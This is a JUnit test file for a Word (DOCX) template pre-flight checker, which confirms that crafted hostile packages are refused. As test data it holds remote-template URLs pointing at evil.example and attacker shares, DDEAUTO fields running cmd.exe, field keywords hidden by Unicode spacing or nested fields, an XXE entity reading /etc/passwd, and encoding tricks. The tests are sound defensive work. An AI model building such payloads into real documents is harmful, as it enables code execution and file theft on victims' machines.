// SPDX-License-Identifier: Apache-2.0
package org.jixiao.docx.internal.preflight;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.jixiao.docx.RawZip;
import org.jixiao.docx.TestDocx;
import org.jixiao.validation.Problem;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Packages built to slip past the pre-flight: an encoding it did not read as Word does, a part name in
 * another case, a field keyword Word ends where the check did not.
 */
@Tag("hostile-templates")
class HostilePackagesTest {
    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String SETTINGS_RELS = "word/_rels/settings.xml.rels";

    private static List<String> problems(byte[] docx) {
        return TemplatePreflight.check(docx).stream()
                .map(p -> p.code() + " " + p.template().part())
                .toList();
    }

    /** A relationships part attaching {@code target} as the template, external. */
    private static String attached(String target) {
        return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rIdT\" Type=\"" + REL + "attachedTemplate\" Target=\"" + target
                + "\" TargetMode=\"External\"/></Relationships>";
    }

    /** The test package with word/settings.xml attaching a template, its relationships part given as bytes. */
    private static byte[] withSettingsRels(String relsName, byte[] rels) {
        TestDocx d = TestDocx.docx().settings("<w:attachedTemplate r:id=\"rIdT\"/>");
        RawZip zip = new RawZip();
        d.entries().forEach(zip::add);
        zip.add(relsName, rels);
        return zip.bytes();
    }

    private static byte[] bytes(byte[] bom, String text, Charset charset) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(bom);
        out.writeBytes(text.getBytes(charset));
        return out.toByteArray();
    }

    // --- Encodings ------------------------------------------------------------------------------

    private static final Charset UTF_32BE = Charset.forName("UTF-32BE");
    private static final Charset UTF_32LE = Charset.forName("UTF-32LE");
    private static final byte[] NONE = {};

    static Stream<Arguments> refusedEncodings() {
        String decl32 = "<?xml version=\"1.0\" encoding=\"UTF-32\"?>";
        String rels = attached("http://evil.example/t.dotm");
        return Stream.of(
                Arguments.of("UTF-32BE without BOM", bytes(NONE, rels, UTF_32BE)),
                Arguments.of("UTF-32BE without BOM, declared", bytes(NONE, decl32 + rels, UTF_32BE)),
                Arguments.of("UTF-32LE without BOM", bytes(NONE, rels, UTF_32LE)),
                Arguments.of("UTF-32BE with BOM", bytes(new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF}, rels, UTF_32BE)),
                Arguments.of("UTF-32LE with BOM", bytes(new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0}, rels, UTF_32LE)),
                Arguments.of("UTF-16BE without BOM", bytes(NONE, rels, StandardCharsets.UTF_16BE)),
                Arguments.of("UTF-16LE without BOM", bytes(NONE, rels, StandardCharsets.UTF_16LE)),
                Arguments.of(
                        "declared ISO-8859-1",
                        bytes(NONE, "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + rels, StandardCharsets.UTF_8)),
                Arguments.of(
                        "declared GBK",
                        bytes(NONE, "<?xml version='1.0' encoding='GBK'?>" + rels, Charset.forName("GBK"))),
                Arguments.of(
                        "UTF-8 BOM, declared UTF-16",
                        bytes(
                                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                                "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + rels,
                                StandardCharsets.UTF_8)),
                Arguments.of(
                        "EBCDIC",
                        bytes(NONE, "<?xml version=\"1.0\" encoding=\"IBM037\"?>" + rels, Charset.forName("IBM037"))),
                Arguments.of(
                        "bytes that are not UTF-8",
                        bytes(NONE, rels.replace("evil", "évil"), StandardCharsets.ISO_8859_1)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusedEncodings")
    void relationshipsWordWouldNotReadThisWayAreRefusedNamingThePart(String name, byte[] rels) {
        List<Problem> found = TemplatePreflight.check(withSettingsRels(SETTINGS_RELS, rels));
        assertEquals(
                List.of("template.xml.encoding " + SETTINGS_RELS),
                found.stream().map(p -> p.code() + " " + p.template().part()).toList());
        assertTrue(found.get(0).messageEn().contains("UTF-8 or UTF-16 with a byte-order mark"), found::toString);
        assertTrue(found.get(0).messageZh().contains("UTF-8"), found::toString);
    }

    static Stream<Arguments> acceptedEncodings() {
        String rels = attached("http://evil.example/t.dotm");
        return Stream.of(
                Arguments.of("UTF-8", bytes(NONE, rels, StandardCharsets.UTF_8)),
                Arguments.of(
                        "UTF-8 with BOM, declared utf-8",
                        bytes(
                                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                                "<?xml version=\"1.0\" encoding=\"utf-8\"?>" + rels,
                                StandardCharsets.UTF_8)),
                Arguments.of(
                        "UTF-16LE with BOM, declared",
                        bytes(
                                new byte[] {(byte) 0xFF, (byte) 0xFE},
                                "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + rels,
                                StandardCharsets.UTF_16LE)),
                Arguments.of(
                        "UTF-16BE with BOM",
                        bytes(new byte[] {(byte) 0xFE, (byte) 0xFF}, rels, StandardCharsets.UTF_16BE)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("acceptedEncodings")
    void relationshipsInTheEncodingsWordReadsAreCheckedAsUsual(String name, byte[] rels) {
        assertEquals(
                List.of("template.external-relationship word/settings.xml"),
                problems(withSettingsRels(SETTINGS_RELS, rels)));
    }

    @Test
    void aUtf32DocumentWithADoctypeIsRefusedForItsEncoding() {
        String doc = "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document " + TestDocx.NS
                + "><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>";
        for (byte[] bytes : List.of(
                bytes(NONE, doc, UTF_32BE),
                bytes(NONE, "<?xml version=\"1.0\" encoding=\"UTF-32\"?>" + doc, UTF_32LE),
                bytes(new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF}, doc, UTF_32BE))) {
            RawZip zip = new RawZip();
            TestDocx.docx()
                    .entries()
                    .forEach((n, c) ->
                            zip.add(n, n.equals("word/document.xml") ? bytes : c.getBytes(StandardCharsets.UTF_8)));
            assertEquals(List.of("template.xml.encoding word/document.xml"), problems(zip.bytes()));
        }
    }

    /** The test package with a footer part named {@code word/footer1.dat}, of the footer content type, holding {@code bytes}. */
    private static byte[] withDatFooter(byte[] bytes) {
        RawZip zip = new RawZip();
        TestDocx.docx()
                .related(
                        "rIdF",
                        "footer",
                        "word/footer1.dat",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml",
                        "")
                .entries()
                .forEach((n, c) ->
                        zip.add(n, n.equals("word/footer1.dat") ? bytes : c.getBytes(StandardCharsets.UTF_8)));
        return zip.bytes();
    }

    @Test
    void aPartOfAnXmlContentTypeIsCheckedWhateverItsName() {
        byte[] footer = bytes(NONE, TestDocx.wrap("w:ftr", "<w:p/>"), UTF_32BE);
        assertEquals(List.of("template.xml.encoding word/footer1.dat"), problems(withDatFooter(footer)));
    }

    @Test
    void binaryBytesUnderAnXmlContentTypeAreRefused() {
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};
        assertEquals(List.of("template.xml.malformed word/footer1.dat"), problems(withDatFooter(png)));
    }

    // --- Part names in any case -------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {"word/_rels/settings.xml.RELS", "WORD/_RELS/SETTINGS.XML.RELS", "word/_Rels/Settings.xml.rels"})
    void relationshipsPartsAreFoundWhateverTheCaseOfTheirName(String name) {
        byte[] docx =
                withSettingsRels(name, attached("http://evil.example/t.dotm").getBytes(StandardCharsets.UTF_8));
        List<Problem> found = TemplatePreflight.check(docx);
        assertEquals(
                List.of("template.external-relationship"),
                found.stream().map(Problem::code).toList());
    }

    @Test
    void contentTypesAreFoundWhateverTheCaseOfTheirName() {
        TestDocx d = TestDocx.docx().mainContentType("application/vnd.ms-word.document.macroEnabled.main+xml");
        RawZip zip = new RawZip();
        d.entries().forEach((n, c) -> zip.add(n.equals("[Content_Types].xml") ? "[CONTENT_TYPES].XML" : n, c));
        assertEquals(
                List.of("template.macro"),
                TemplatePreflight.check(zip.bytes()).stream().map(Problem::code).toList());
    }

    @Test
    void relationshipTypesAreComparedWhateverTheirCase() {
        byte[] docx = TestDocx.docx()
                .relationship(
                        "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/"
                                + "VBAProject\" Target=\"vbaProject.bin\"/>")
                .bytes();
        assertEquals(List.of("template.macro word/vbaProject.bin"), problems(docx));
    }

    // --- Field keywords ---------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "INCLUDEPICTURE\"http://evil.example/p.png\"",
                "INCLUDEPICTURE\\d \"http://evil.example/p.png\"",
                "DDEAUTO\"c:\\\\windows\\\\system32\\\\cmd.exe\" \"/k calc\"",
                "\u00a0INCLUDETEXT \"c:\\\\x.docx\"",
                "\u3000DDE cmd \"/c calc\"",
                "\u2003\u202fLINK Excel.Sheet.8 \"c:\\\\x.xls\" \"\"",
                "\tincludeText\t\"c:\\\\x.docx\"",
                "\u200bIMPORT \"http://evil.example/x.wmf\"",
                "ＩＮＣＬＵＤＥＴＥＸＴ \"c:\\\\x.docx\"",
                "\"INCLUDETEXT\" \"c:\\\\x.docx\""
            })
    void forbiddenFieldsAreFoundWhereverWordEndsTheKeyword(String instr) {
        String escaped = instr.replace("&", "&amp;").replace("\"", "&quot;").replace("<", "&lt;");
        byte[] simple = TestDocx.docx()
                .body("<w:p><w:fldSimple w:instr=\"" + escaped + "\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>")
                .bytes();
        byte[] complex = TestDocx.docx()
                .body("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">"
                        + instr.replace("&", "&amp;").replace("<", "&lt;")
                        + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")
                .bytes();
        assertEquals(List.of("template.field.forbidden word/document.xml"), problems(simple), instr);
        assertEquals(List.of("template.field.forbidden word/document.xml"), problems(complex), instr);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                " PAGE ",
                "\u00a0PAGE\\* MERGEFORMAT",
                "MERGEFIELD 单位名称",
                "HYPERLINK \"https://www.gov.cn/\"",
                "DATE\\@ \"yyyy年M月d日\""
            })
    void ordinaryFieldsStayAccepted(String instr) {
        String escaped = instr.replace("&", "&amp;").replace("\"", "&quot;");
        byte[] docx = TestDocx.docx()
                .body("<w:p><w:fldSimple w:instr=\"" + escaped + "\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>")
                .bytes();
        assertEquals(List.of(), problems(docx));
    }

    @Test
    void aKeywordCompletedByANestedFieldIsRefused() {
        // { DD{ QUOTE "EAUTO" } c:\windows\system32\cmd.exe }: Word joins the nested result to the keyword.
        byte[] docx = TestDocx.docx()
                .body("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                        + "<w:r><w:instrText>DD</w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                        + "<w:r><w:instrText xml:space=\"preserve\"> QUOTE \"EAUTO\" </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
                        + "<w:r><w:instrText xml:space=\"preserve\"> c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")
                .bytes();
        assertEquals(List.of("template.field.forbidden word/document.xml"), problems(docx));
    }

    @Test
    void aNestedFieldAfterAWholeKeywordIsAccepted() {
        byte[] docx = TestDocx.docx()
                .body("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                        + "<w:r><w:instrText xml:space=\"preserve\"> IF </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                        + "<w:r><w:instrText xml:space=\"preserve\"> PAGE </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
                        + "<w:r><w:instrText xml:space=\"preserve\"> = 1 \"第一页\" \"\" </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")
                .bytes();
        assertEquals(List.of(), problems(docx));
    }

    // --- Attached templates -----------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Normal.dotm",
                "file:///C:\\Users\\张三\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
                "file:///C:/Users/x/Documents/公文.dotx",
                "file:///C:\\Users\\%E5%BC%A0%E4%B8%89\\Templates\\公文.dotx",
                "file://localhost/C:/t.dotx",
                "C:\\Templates\\t.dotx",
                "file:///home/wps/.local/share/Kingsoft/templates/normal.dotm"
            })
    void aLocalAttachedTemplateIsAWarningAndDetached(String target) {
        byte[] docx = withSettingsRels(SETTINGS_RELS, attached(target).getBytes(StandardCharsets.UTF_8));
        TemplatePreflight.Result r = TemplatePreflight.scan(docx, PreflightLimits.DEFAULT);
        assertEquals(List.of(), r.problems());
        assertEquals(
                List.of("template.attached-template.dropped word/settings.xml"),
                r.warnings().stream()
                        .map(p -> p.code() + " " + p.template().part())
                        .toList());
        assertEquals(List.of(new Detached(SETTINGS_RELS, "word/settings.xml", "rIdT")), r.detached());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://evil.example/t.dotm",
                "https://evil.example/t.dotm",
                "\\\\attacker\\share\\t.dotm",
                "//attacker/share/t.dotm",
                "file://attacker/share/t.dotm",
                "file:////attacker/share/t.dotm",
                "file:///\\\\attacker\\share\\t.dotm",
                "file:///%5C%5Cattacker%5Cshare%5Ct.dotm",
                "%5C%5Cattacker%5Cshare%5Ct.dotm",
                "ftp://evil.example/t.dotm",
                ""
            })
    void aRemoteAttachedTemplateStaysRefused(String target) {
        byte[] docx = withSettingsRels(SETTINGS_RELS, attached(target).getBytes(StandardCharsets.UTF_8));
        TemplatePreflight.Result r = TemplatePreflight.scan(docx, PreflightLimits.DEFAULT);
        assertEquals(
                List.of("template.external-relationship"),
                r.problems().stream().map(Problem::code).toList(),
                target);
        assertEquals(List.of(), r.detached());
    }

    @Test
    void aLocalAttachedTemplateInARelationshipsPartOfAnotherCaseIsDetachedByItsOwnName() {
        byte[] docx = withSettingsRels(
                "word/_rels/settings.xml.RELS", attached("Normal.dotm").getBytes(StandardCharsets.UTF_8));
        TemplatePreflight.Result r = TemplatePreflight.scan(docx, PreflightLimits.DEFAULT);
        assertEquals(List.of(), r.problems());
        assertEquals(List.of(new Detached("word/_rels/settings.xml.RELS", "word/settings.xml", "rIdT")), r.detached());
    }
}
